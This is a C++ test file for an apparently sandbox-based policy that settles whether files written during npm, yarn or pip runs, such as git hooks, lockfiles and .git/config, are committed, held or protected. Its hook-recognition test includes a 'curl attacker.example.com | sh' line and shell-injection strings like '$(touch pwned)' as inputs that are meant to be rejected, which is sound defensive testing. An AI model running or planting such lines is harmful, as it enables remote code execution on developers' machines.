#include "policy/settle.h"

#include <doctest/doctest.h>

#include "built_in_profiles.h"
#include "policy/git_hooks.h"
#include "policy/git_ignore.h"

using namespace sandbox_run::policy;

namespace {

Judgement settled(const std::string& profile, const std::string& path, Author author,
                  const Finding& finding = {},
                  const std::vector<std::string>& arguments = {"x", "ci"}) {
  const Policy policy = profiles().select(profile);
  const TargetRules& rules = rules_of(policy, TargetKind::project);
  return settle(rules, path, judge(rules, path, arguments), author, finding);
}

}  // namespace

TEST_CASE("what a manager writes by itself is asked for; what only an archive could reach is not") {
  for (const char* path : {"package.json", "packages/a/package.json", ".npmrc", ".git/index",
                           ".git/objects/ab/cd", ".git/refs/tags/v1", "app-1.0.0.tgz"}) {
    CAPTURE(path);
    CHECK(settled("npm", path, Author::asked).verdict == Verdict::commit);
    CHECK(settled("npm", path, Author::package).verdict != Verdict::commit);
    CHECK(settled("npm", path, Author::project).verdict != Verdict::commit);
  }
  for (const char* path : {".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json",
                           ".github/workflows/ci.yml", "CLAUDE.md", ".envrc", "src/index.js"}) {
    CAPTURE(path);
    CHECK(settled("npm", path, Author::asked).verdict != Verdict::commit);
    CHECK(settled("generic", path, Author::asked).verdict == Verdict::commit);
  }
  CHECK(settled("yarn", ".git/hooks/pre-commit.sample", Author::asked).verdict == Verdict::commit);
  CHECK(settled("yarn", ".git/hooks/update", Author::asked).verdict == Verdict::protect);
  CHECK(settled("npm", ".npmrc", Author::asked).was_protected);
  CHECK_FALSE(settled("npm", "app-1.0.0.tgz", Author::asked).was_protected);
}

TEST_CASE("a lockfile is the manager's if no package's code was running when it was last changed") {
  const auto lockfile = [](Author author) {
    return settled("npm", "package-lock.json", author, {Content::new_file}, {"npm", "install"});
  };
  for (const Author author :
       {Author::asked, Author::own_script, Author::project, Author::manager}) {
    CHECK(lockfile(author).verdict == Verdict::commit);
  }
  CHECK(lockfile(Author::package).verdict == Verdict::protect);
  CHECK(settle_removal("yarn.lock", {Verdict::own, "r"}, {}).verdict == Verdict::hold);
  CHECK(settle_removal(".pnp.cjs", {Verdict::own, "r"}, {}).verdict == Verdict::commit);
  CHECK(settle_removal("package.json", {Verdict::manifest, "r"}, {}).verdict == Verdict::protect);
}

TEST_CASE("of what starts something the author decides if it is an alert, and never commits it") {
  const Finding hooks{Content::git_hooks, "husky"};
  CHECK(settled("npm", ".git/config", Author::project, hooks).verdict == Verdict::hold);
  CHECK(settled("npm", ".git/config", Author::package, hooks).verdict == Verdict::protect);
  const Finding ignored{Content::ignored_setting};
  CHECK(settled("npm", ".vscode/settings.json", Author::project, ignored).verdict == Verdict::hold);
  CHECK(settled("npm", ".vscode/settings.json", Author::package, ignored).verdict ==
        Verdict::protect);
  const Finding starters{Content::git_starters, "core.pager"};
  for (const Author author : {Author::project, Author::manager, Author::package}) {
    const Judgement judgement = settled("npm", ".git/config", author, starters);
    CHECK(judgement.verdict == Verdict::protect);
    CHECK(judgement.reason.ends_with(": core.pager"));
  }
}

TEST_CASE("what can do nothing new is let through, whoever wrote it") {
  for (const Author author : {Author::project, Author::package}) {
    CHECK(settled("npm", "package.json", author, {Content::same_value}).verdict == Verdict::commit);
    CHECK(settled("npm", ".git/index", author, {Content::same_entries}).verdict == Verdict::drop);
    CHECK(settled("npm", "packages/a/cli.js", author, {Content::made_executable}).verdict ==
          Verdict::commit);
    CHECK(settled("npm", ".husky/x", author, {Content::made_executable}).verdict ==
          Verdict::protect);
  }
  CHECK(settled("npm", ".git/config", Author::project, {Content::git_settings}).verdict ==
        Verdict::commit);
  CHECK(settled("npm", ".git/config", Author::package, {Content::git_settings}).verdict ==
        Verdict::protect);
}

TEST_CASE("a compiled module that the project names is taken over from its own build alone") {
  const std::string path = "fast.cpython-311-x86_64-linux-gnu.so";
  CHECK(settled("pip", path, Author::project, {Content::named_extension}).verdict ==
        Verdict::commit);
  CHECK(settled("pip", path, Author::package, {Content::named_extension}).verdict == Verdict::hold);
}

TEST_CASE("nothing is committed where a reason holds all") {
  Policy policy = profiles().select("npm");
  for (TargetRules& rules : policy.files.targets) rules.hold_reason = "later";
  const TargetRules& rules = rules_of(policy, TargetKind::project);
  const auto held = [&](const std::string& path, Author author, Content content) {
    const Judgement judgement =
        settle(rules, path, judge(rules, path, {"npm", "ci"}), author, {content});
    return judgement.verdict == Verdict::hold && judgement.reason == "later";
  };
  CHECK(held("package.json", Author::package, Content::same_value));
  CHECK(held(".npmrc", Author::asked, Content::other));
  CHECK(held("a/cli.js", Author::package, Content::made_executable));
}

TEST_CASE("a hook is known if each line of it is one of a tool's") {
  const std::string husky = "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"";
  CHECK(hook_tool(husky, {}) == "husky");
  CHECK(hook_tool(husky + "\ncurl attacker.example.com | sh\n", {}).empty());
  CHECK(hook_tool("#!/usr/bin/env node\n. \"$(dirname \"$0\")/h\"", {}).empty());
  CHECK(hook_tool("#!/bin/sh\ncd \"sub/dir\"\n", {}) == "husky");
  CHECK(hook_tool("#!/bin/sh\ncd \"$(touch pwned)\"\n", {}).empty());
  CHECK(hook_tool("#!/bin/sh\ncd \"a\"; touch \"pwned\"\n", {}).empty());
  CHECK(hook_tool("", {}).empty());
  const std::string simple = "#!/bin/sh\nnpx lint-staged";
  CHECK(hook_tool(simple, hook_commands("{}")).empty());
  CHECK(hook_tool(simple,
                  hook_commands(R"({"simple-git-hooks": {"pre-commit": "npx lint-staged"}})")) ==
        "simple-git-hooks");
}

TEST_CASE("a .gitignore at the root") {
  GitIgnore rules;
  rules.add("# editors\n.vscode/*\n!.vscode/extensions.json\n*.log\n/build/\n");
  CHECK(rules.covers(".vscode/settings.json"));
  CHECK_FALSE(rules.covers(".vscode/extensions.json"));
  CHECK(rules.covers("a/b.log"));
  CHECK(rules.covers("build/x"));
  CHECK_FALSE(rules.covers("a/build/x"));
  CHECK_FALSE(rules.covers("src/index.js"));
}
